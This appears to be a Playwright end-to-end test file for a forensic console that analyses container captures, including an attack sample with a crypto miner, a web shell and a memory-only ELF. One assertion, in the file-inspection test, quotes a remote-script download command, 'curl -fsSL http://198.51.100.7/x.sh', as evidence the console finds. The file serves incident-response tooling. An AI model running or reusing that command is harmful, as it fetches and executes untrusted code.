import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { launchChromium } from '@icecore/views/test-support';
import type { Browser, Locator } from 'playwright-core';
import { evidencePoints } from './evidence-points.test-support.ts';
import { icecore, openPage, type OpenedPage, picture, present, samples, serveLake, type ServedConsole, type Session, sessionOf, settled, temporaryFolder } from './console.test-support.ts';

/*
 * What an analyst expects of the console, point by point, done as an analyst does it: in a browser, over a lake that
 * `icecore analyze` made of the samples, with the vault that `icecore seal` made.
 */
const folder = present ? temporaryFolder() : '';
const lake = join(folder, 'lake');
const vault = join(folder, 'vault');
/** Archives that come while the console runs. */
const more = join(folder, 'more');
const attackSample = join(samples, 'podman-attack.tar.zst');

(present ? describe : describe.skip)('an analyst', () => {
  let browser: Browser;
  let served: ServedConsole;
  let session: Session;
  let opened: OpenedPage;
  let attack = '';
  const at = (path: string): string => `/captures/${attack}${path}`;
  const rows = (): Locator => opened.page.locator('.grid-body .grid-row:not(:has-text("…")), .grid-body .grid-row.opens');
  const tile = (name: string): Promise<string> => opened.page.locator('.tiles > div', { hasText: name }).locator('dd').innerText();
  const search = async (value: string): Promise<void> => {
    await opened.page.keyboard.press('/');
    await opened.page.keyboard.insertText(value);
    await opened.page.keyboard.press('Enter');
    await opened.page.locator('.tiles').waitFor();
    await settled(opened.page);
  };
  const serve = async (): Promise<void> => {
    served = await serveLake(lake, '--archives', samples, '--archives', more, '--vault', vault, '--key', join(folder, 'signing.pem'), '--case', join(folder, 'case.json'));
    session = await sessionOf(browser, served);
    opened = await openPage(browser, served, session, { permissions: ['clipboard-write'], acceptDownloads: true });
  };

  beforeAll(async () => {
    mkdirSync(more);
    icecore('analyze', samples, '--lake', lake);
    icecore('seal', attackSample, '--vault', vault, '--key', join(folder, 'signing.pem'), '--cluster', 'prod', '--reason', 'shell in container');
    browser = await launchChromium();
    await serve();
    attack = String((await opened.sql("SELECT capture_id FROM captures WHERE archive_name = 'podman-attack.tar.zst'"))[0]?.[0]);
  });
  afterAll(async () => {
    await browser?.close();
    await served?.close();
  });
  afterEach(() => expect(opened.complaints.splice(0)).toEqual([]));

  it.each([
    ['an address', '10.88.0.1', 'an IP address'],
    ['an address that was made harmless', '198.51[.]100[.]7', 'an IP address'],
    ['a network', '10.88.0.0/16', 'a network'],
    ['a path', '/tmp/.xmrig', 'a path'],
    ['a text', 'LD_PRELOAD', 'a string'],
    ['an expression', 're:198\\.51\\.100\\.\\d+', 'an expression'],
  ])('1: pastes %s and sees where it is, how often and since when', async (_name, value, type) => {
    await opened.go('/');
    await search(value);
    expect(await tile('Taken for')).toBe(type);
    expect(await tile('Captures')).toMatch(/^[1-6] of 6$/);
    expect(Number(await tile('Processes'))).toBeGreaterThanOrEqual(0);
    expect(await tile('First seen')).toMatch(/^2026-11-23 0\d:\d\d:\d\d$/);
    expect(await rows().count()).toBeGreaterThan(0);
  });

  it('1, 2: pastes the hash of a library and sees who else has it, by image', async () => {
    const [[build] = []] = await opened.sql("SELECT executable_build_id FROM processes WHERE executable = '/bin/busybox' GROUP BY executable_build_id ORDER BY count(*) DESC");
    expect(build).toMatch(/^[0-9a-f]{32,64}$/);
    await opened.go('/');
    await search(String(build));
    expect(await tile('Captures')).toBe('5 of 6');
    expect(await tile('Images')).toMatch(/^\d of 2 ·/);
    await search('cccda113240f3ba4c016991793a62dc0cfe01613');
    expect(await tile('Images')).toBe('1 of 2 · in one image alone');
  });

  it('3: stacks a column, the least frequent first, and follows the rare', async () => {
    await opened.go('/stack');
    const counts = (await opened.page.locator('.grid-body .grid-row > :first-child').allInnerTexts()).map(Number);
    expect(counts).toEqual([...counts].sort((a, b) => a - b));
    expect(counts.at(-1)).toBe(5);
    await opened.page.getByText('/tmp/.xmrig', { exact: true }).click();
    await opened.page.locator('.tiles').waitFor();
    expect(opened.page.url()).toContain('/search?value=%2Ftmp%2F.xmrig');
  });

  it('4: reads the times of all captures, by source and by day', async () => {
    const { page, go } = opened;
    await go('/timeline');
    const all = Number((await page.locator('h1 .count').innerText()).replace(',', ''));
    await page.getByLabel('Source').selectOption('checkpoint');
    await page.locator('.event.checkpoint').first().waitFor();
    await settled(page);
    expect(await page.locator('.event').allInnerTexts()).toEqual(Array.from({ length: 6 }, () => 'checkpoint'));
    await page.getByLabel('Source').selectOption('');
    await page.getByLabel('Until').fill('2026-11-22');
    await page.locator('.state.empty').waitFor();
    expect(all).toBeGreaterThan(100);
  });

  it('5: compares two captures, part by part', async () => {
    const { page, go } = opened;
    await go('/captures');
    await page.getByRole('link', { name: 'c1', exact: true }).click();
    await page.locator('.capture-head').getByRole('link', { name: 'Compare' }).click();
    await page.locator('.notice').waitFor();
    await page.getByRole('gridcell', { name: 'localhost/lab:1' }).click();
    await page.locator('.sides').waitFor();
    const parts = await page.locator('.with-tabs .tabs button').allInnerTexts();
    for (const part of ['Processes', 'Sockets', 'Memory map', 'Changed and hidden files', 'Environment', 'Credentials and capabilities', 'Secrets']) expect(parts.some((text) => text.startsWith(part))).toBe(true);
    await page.getByRole('button', { name: /^Processes/ }).click();
    await page.getByText('/tmp/.xmrig').first().waitFor();
    expect(await page.locator('.grid-body b.added').count()).toBe(5);
    expect(page.url()).toContain('part=processes');
  });

  it('6: sees the process tree with what is wrong, and what stands between processes', async () => {
    const { page, go } = opened;
    await go(at('?tab=processes&pid=23'));
    const shell = page.locator('#process-23');
    expect(await shell.innerText()).toMatch(/Critical[\s\S]*5 findings[\s\S]*1 connection/);
    expect(await page.locator('#process-21').innerText()).toContain('program in memory only');
    expect(await page.locator('#process-22').innerText()).toContain('program deleted');
    expect(await shell.locator('.facts').innerText()).toMatch(/Standard streams\s+input socket:\[\d+\]/);
    await page.locator('#process-1 > summary').click();
    expect(await page.locator('#process-1 .facts').innerText()).toMatch(/pipe/i);
    await page.locator('#process-1 a[href^="#finding-"]').first().click();
    await page.locator('article.finding').waitFor();
  });

  it('6: sees who speaks with whom', async () => {
    await opened.go(at('?tab=network'));
    expect(await opened.page.locator('.network-graph').innerHTML()).toMatch(/10\.88\.0\.1/);
  });

  it('7: sees memory as a picture, and a bar leads to its bytes', async () => {
    const { page, go } = opened;
    await go(at('?tab=memory&pid=1'));
    const bar = page.locator('.memory-map g', { has: page.locator('title', { hasText: /^7f8988dff000-/ }) }).first();
    expect(await bar.locator('title').first().textContent()).toMatch(/rwxp/);
    await bar.click();
    await page.locator('.hex').waitFor();
    expect(page.url()).toContain('at=7f8988dff000');
    expect(await page.locator('.hex').innerText()).toMatch(/7f 45 4c 46/);
  });

  it('8: reads bytes and strings, searches memory, copies a rule, takes bytes out on the record', async () => {
    const { page, go } = opened;
    await go(`/memory?capture=${attack}&pid=1&at=7f8988dff000`);
    await page.getByRole('button', { name: 'Copy as YARA' }).click();
    await page.getByText('Copied').waitFor();
    await page.getByText('Take out…').click();
    await page.getByLabel('Why').fill('to be taken apart');
    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Take out 1.0 KiB' }).click()]);
    const bytes = readFileSync(await file.path());
    expect(bytes.subarray(0, 4)).toEqual(Buffer.from('\u007fELF'));
    const told = /SHA-256 ([0-9a-f]{64})/.exec(await page.getByText(/SHA-256 [0-9a-f]{64}/).innerText())?.[1];
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(told);
    expect(readFileSync(join(folder, 'access.jsonl'), 'utf8')).toMatch(/to be taken apart/);
    // The page may not read the clipboard; a person may, into a note.
    await page.goto(`${served.origin}${at('?tab=notes')}`);
    await page.getByLabel('Note', { exact: true }).focus();
    await page.keyboard.press('Control+V');
    expect(await page.getByLabel('Note', { exact: true }).inputValue()).toMatch(/^rule bytes_at_7f8988dff000\n\{[\s\S]*\{ 7F 45 4C 46/);
    await go(`/memory?capture=${attack}&pid=1&at=7f8988dff000`);
    await page.getByRole('link', { name: 'Strings' }).click();
    await page.getByLabel('That hold').fill('ld-linux');
    await page.getByText('/lib64/ld-linux-x86-64.so.2').first().waitFor();
    await page.getByRole('link', { name: 'Search', exact: true }).click();
    await page.getByLabel('Look for').fill('pool.');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.locator('.grid-row.opens').first().waitFor();
  });

  it('9: looks into files that the archive holds: changed, hidden, in memory alone', async () => {
    const { page, go } = opened;
    await go(at('?tab=files&text=update-sys'));
    await page.locator('.grid-row.opens').first().click();
    expect(await page.locator('pre.text').innerText()).toContain('curl -fsSL http://198.51.100.7/x.sh');
    await go(at('?tab=files&text=memfd'));
    await page.locator('.grid-row.opens').first().click();
    await page.locator('.content .hex, .content .failure').first().waitFor();
    expect(await page.locator('.content').innerText()).toMatch(/7f 45 4c 46/);
  });

  it('10: reads why a finding is one, and leaves those like it out, until that is taken back', async () => {
    const { page, go } = opened;
    await go('/findings?text=no+system+call+filter');
    const before = await page.locator('h2 .count').innerText();
    await page.locator('.grid-row.opens').first().click();
    await page.locator('article.finding').waitFor();
    const text = await page.locator('article.finding').innerText();
    for (const part of ['What shows it', 'Why', 'What harmless thing looks the same', 'ATT&CK', 'Elsewhere']) expect(text).toContain(part);
    await page.getByText('Suppress findings like this').click();
    await page.getByLabel('Why they are harmless').fill('known of this image');
    await page.getByRole('button', { name: 'Suppress' }).click();
    await page.getByText('known of this image').waitFor();
    await go('/findings?text=no+system+call+filter');
    expect(Number(before)).toBeGreaterThan(await page.locator('h2 .count').isVisible() ? Number(await page.locator('h2 .count').innerText()) : 0);
    await go('/case');
    await page.getByRole('button', { name: 'Take back' }).click();
    await page.getByText('No findings are left out.').waitFor();
  });

  it('11: asks a saved question of all captures, told before how much is read', async () => {
    const { page, go } = opened;
    await go('/hunts');
    expect(await page.locator('.cards > li').count()).toBeGreaterThan(20);
    await page.getByRole('link', { name: /^Everything with a path/ }).click();
    await page.getByText(/Reads at most [\d.]+ KiB of \d+ tables/).waitFor();
    await page.getByLabel('path').fill('/tmp');
    await page.getByRole('button', { name: 'Ask' }).click();
    await page.locator('.grid-row.opens').first().waitFor();
    expect(page.url()).toMatch(/\/hunts\/pivot-path\?path=%2Ftmp$/);
  });

  it('12: writes SQL with the tables at hand, and follows a row to what it names', async () => {
    const { page, go } = opened;
    await go('/sql');
    await page.locator('.cm-content').click();
    await page.keyboard.press('Control+A');
    await page.keyboard.type('SELECT pid, capture_id FROM shell_h');
    await page.locator('.cm-tooltip-autocomplete').getByText('shell_history').waitFor();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText('SELECT capture_id, pid, comm FROM processes ORDER BY pid DESC');
    await page.keyboard.press('Control+Enter');
    await page.locator('.grid-row.opens').first().waitFor();
    await picture(page, 'point-12-sql');
    await page.getByRole('button', { name: 'Save…' }).click();
    await page.getByLabel(/^Name/).fill('all processes');
    await page.getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('link', { name: 'all processes' }).waitFor();
    await page.locator('.grid-body a').first().click();
    await page.locator('.capture-head').waitFor();
    await go('/sql');
    await page.locator('.schema').getByText('captures', { exact: true }).click();
    expect(await page.locator('.schema').innerText()).toContain('archive_sha256');
  });

  it('13: keeps notes, status and holds through a restart, and exports', async () => {
    const { page, go } = opened;
    await go('/case');
    await page.getByLabel('Title').fill('Miner in prod');
    await page.getByLabel('Who works on it').fill('sam');
    await page.getByLabel('Status').selectOption('contained');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByText('Saved').waitFor();
    await page.getByText('Hold…').first().click();
    await page.getByLabel('Why, for the ledger').fill('case 7');
    await page.getByRole('button', { name: 'Hold', exact: true }).click();
    await page.locator('.tag.held').waitFor();
    await go(at('?tab=notes'));
    await page.getByLabel('Note', { exact: true }).fill('the miner came in by the web shell');
    await page.getByLabel(/^Tags/).fill('miner todo');
    await page.getByRole('button', { name: 'Add the note' }).click();
    await page.locator('.note').getByText('the miner came in by the web shell').waitFor();

    await opened.context.close();
    await served.close();
    await serve();
    await opened.go('/case');
    expect(await opened.page.getByLabel('Title').inputValue()).toBe('Miner in prod');
    expect(await opened.page.getByLabel('Status').inputValue()).toBe('contained');
    await opened.page.locator('.tag.held').waitFor();
    await opened.page.getByText(/^Custody, \d+ entries/).first().click();
    expect(await opened.page.locator('.custody').first().innerText()).toMatch(/held by [\s\S]*case 7/);
    expect(await opened.page.locator('.note').innerText()).toMatch(/miner came in[\s\S]*/);
    expect(await opened.page.locator('.hold').innerText()).toMatch(/SHA-256 [0-9a-f]{64}/);
    await picture(opened.page, 'point-13-case');
    // What the command line says of the same vault.
    expect(icecore('evidence', 'list', '--vault', vault)).toMatch(/held/);
    const [sums] = await Promise.all([opened.page.waitForEvent('download'), opened.page.getByRole('link', { name: 'Hashes of the evidence' }).click()]);
    const manifest = readFileSync(await sums.path(), 'utf8');
    expect(manifest).toMatch(/# vault: sealed, held, locked until 20\d\d-[^,]+, \d+ entries of custody/);
    const checked = spawnSync('sha256sum', ['--check', '--strict', '--ignore-missing', await sums.path()], { cwd: samples, encoding: 'utf8' });
    expect(checked.stdout.trim().split('\n').every((line) => line.endsWith(': OK'))).toBe(true);
    expect([checked.status, checked.stdout]).toEqual([0, expect.stringContaining('podman-attack.tar.zst: OK')]);
    for (const [name, holds] of [['Markdown report', /xmrig/], ['OCSF 1.3 findings', /"class_uid"/], ['STIX 2.1 bundle', /"type": ?"bundle"/], ['Timesketch lines', /"datetime"/], ['CSV of findings', /severity/]] as const) {
      const [file] = await Promise.all([opened.page.waitForEvent('download'), opened.page.getByRole('link', { name }).click()]);
      expect(readFileSync(await file.path(), 'utf8')).toMatch(holds);
    }
  });

  it('14: is told what could not be seen', async () => {
    await opened.go(at('?tab=coverage'));
    const text = await opened.page.locator('main').innerText();
    expect(text).toMatch(/Detectors that could not look[\s\S]*traced-process/);
    expect(text).toMatch(/processes started by exec/);
    expect(text).toMatch(/start times of processes: no image records them/);
  });

  it('15: works by keys alone, in the colours that the eyes want', async () => {
    const { page, go } = opened;
    await go('/');
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('To the page');
    await page.keyboard.press('Enter');
    await page.keyboard.press('g');
    await page.keyboard.press('f');
    await page.waitForURL('**/findings');
    await page.locator('.grid-row.opens').first().waitFor();
    await page.keyboard.press('j');
    await page.keyboard.press('j');
    await page.keyboard.press('k');
    expect(await page.locator('.grid-row.active').getAttribute('aria-rowindex')).toBe('2');
    await page.keyboard.press('Enter');
    await page.locator('article.finding').waitFor();
    await page.keyboard.press('?');
    await page.locator('dialog[open]').waitFor();
    await page.keyboard.press('Escape');
    await page.locator('dialog[open]').waitFor({ state: 'detached' });
    await page.keyboard.press('T');
    await page.keyboard.press('T');
    expect(await page.evaluate(() => document.documentElement.dataset['theme'])).toBe('dark');
    await page.reload();
    expect(await page.evaluate(() => document.documentElement.dataset['theme'])).toBe('dark');
    await page.keyboard.press('T');
  });

  it('15: keys that come faster than the page is drawn do what they would do slowly', async () => {
    const { page, go } = opened;
    const press = (...keys: readonly string[]): Promise<void> => page.evaluate((all) => {
      for (const key of all) document.body.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, cancelable: true }));
    }, keys);
    await go('/findings');
    await page.locator('.grid-row.opens').first().waitFor();
    const third = await page.locator('.grid-row.opens[aria-rowindex="4"]').innerText();
    await press('j', 'j', 'j', 'j', 'k', 'Enter');
    await page.locator('article.finding').waitFor();
    expect(third).toContain((await page.locator('article.finding h1 bdi').innerText()).slice(0, 40));
    await press('g', 'c');
    await page.locator('.grid[aria-label="Captures"]').waitFor();
    expect(page.url()).toBe(`${served.origin}/captures`);
  });

  it.each([
    ['a list with its filter, order and text', '/findings?severity=high&text=tmp&sort=signal&order=up'],
    ['a column that is stacked', '/stack?table=sockets&column=remote_address'],
    ['a question with its values', '/hunts/pivot-path?path=%2Ftmp'],
    ['bytes at an address', '/memory?capture={id}&pid=1&at=7f8988dff000&length=256'],
    ['strings that hold a text', '/memory?capture={id}&pid=1&at=7f8988dff000&view=strings&text=str'],
    ['a table of a capture', '/captures/{id}?tab=tables&table=mounts&text=proc'],
    ['a statement', '/sql#sql=SELECT+count%28*%29+AS+n+FROM+processes'],
  ])('15: passes on an address that shows the same: %s', async (_name, path) => {
    const { page, go } = opened;
    const url = path.replace('{id}', attack);
    const shown = async (): Promise<string> => {
      await page.locator('.grid, .hex').first().waitFor();
      await settled(page);
      return (await page.locator('main').innerText()).replaceAll(/in [\d,]+ ms/g, '');
    };
    await page.goto('about:blank');
    await go(url);
    const first = await shown();
    await page.reload();
    expect(await shown()).toBe(first);
    expect(page.url()).toBe(`${served.origin}${url}`);
    expect(first.length).toBeGreaterThan(20);
  });

  evidencePoints({ opened: () => opened, attack: () => attack, rows, lake, more, attackSample });
});
